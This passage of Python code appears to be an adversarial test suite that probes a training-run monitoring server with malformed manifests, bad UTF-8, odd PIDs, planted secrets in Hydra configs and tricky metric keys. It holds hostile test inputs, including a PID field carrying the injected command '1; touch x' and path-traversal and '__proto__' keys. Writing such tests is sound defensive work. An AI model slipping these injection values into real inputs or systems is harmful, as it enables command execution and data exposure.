                b'b7-odd-"quote', b"b7-odd-" + b"L" * 240):
        p = os.path.join(bytes(base), raw)
        os.mkdir(p)
        with open(os.path.join(p, b"manifest.json"), "w") as f:
            f.write('{"status": "completed"}')
        made.append(p)
    yield
    c.call("list_runs", limit=500)
    for p in made[:2]:
        c.call("run_status", run_dir=os.fsdecode(p))
    yield
    for p in made:
        shutil.rmtree(p, ignore_errors=True)


@attack("exhaustion")
def manifest_lone_surrogates_and_bad_utf8(c):
    d = c.w.run_dir(f"b7-{c.name}")
    (d / "manifest.json").write_text('{"status": "failed", "error": "\\ud800 \\udfff x", "\\udc80": 1}')
    d2 = c.w.run_dir(f"b7-{c.name}-2")
    (d2 / "manifest.json").write_bytes(b'\xef\xbb\xbf{"status": "failed", "error": "\xff\xfe\x80 latin1 \xe9"}')
    (d2 / "train.log").write_bytes(b"\xff\xfe\x00\x00 bad \xed\xa0\x80 utf8\n" * 100)
    (d2 / "metrics.jsonl").write_bytes(b'{"step": 1, "\xff": "\xfe"}\n{"step": 2, "k": "\\ud800"}\n')
    yield
    c.call("run_status", run_dir=str(d))
    c.call("run_status", run_dir=str(d2), log_lines=200)
    c.call("run_metrics", run_dir=str(d2), last=0)
    c.call("list_runs", limit=500)


@attack("run-links")
def launch_json_weird_pids(c):
    import subprocess
    sleeper = subprocess.Popen(["sleep", "120"])
    # no -1, 0 or negative pids: a server that signalled them would hit every process of the user (a shared machine)
    pids = [1, "1; touch x", 2 ** 70, _server_pid(c), sleeper.pid, str(sleeper.pid)]
    dirs = []
    for i, pid in enumerate(pids):
        d = c.w.run_dir(f"b7-{c.name}-{i}")
        (d / "launch.json").write_text(json.dumps({"pid": pid, "command": ["python"], "log": "launch.log",
                                                   "pgid": pid, "started": "x"}))
        dirs.append(d)
    yield
    c.call("list_runs", limit=500)
    for d in dirs:
        c.call("run_status", run_dir=str(d))
    time.sleep(0.2)
    if sleeper.poll() is not None:
        c.evidence.append("a process named by a planted launch.json was signalled")
    yield
    sleeper.kill()
    sleeper.wait()


@attack("run-secrets")
def hydra_overrides_yaml_secret_words(c):
    s = c.w.env_secrets
    d = c.run()
    (d / ".hydra").mkdir()
    (d / ".hydra" / "overrides.yaml").write_text(f"- +x.hf_token={s['HF_TOKEN']}\n- notes={s['DEPLOY_NOTE']}\n"
                                                 f"- +x.b={s['SLACK_WEBHOOK'].encode().hex()}\n")
    (d / ".hydra" / "config.yaml").write_text(f"x:\n  note: {s['GITHUB_PAT']}\n  apiKey: {s['X_AUTH']}\n")
    yield
    c.call("run_status", run_dir=str(d))
    c.call("list_runs", limit=500)


@attack("run-secrets")
def run_metrics_key_tricks(c):
    d = c.run()
    (d / "metrics.jsonl").write_text(json.dumps({"step": 1, "reward": 1.0,
                                                 "__proto__": c.w.env_secrets["HF_TOKEN"]}) + "\n")
    yield
    c.call("run_metrics", run_dir=str(d), keys=["__proto__", "../../x", "*", ".*", "constructor"], last=5)
    c.call("run_metrics", run_dir=str(d), keys=["k" * 19000] * 490, last=5)
    c.call("run_metrics", run_dir=str(d), last=10 ** 18)
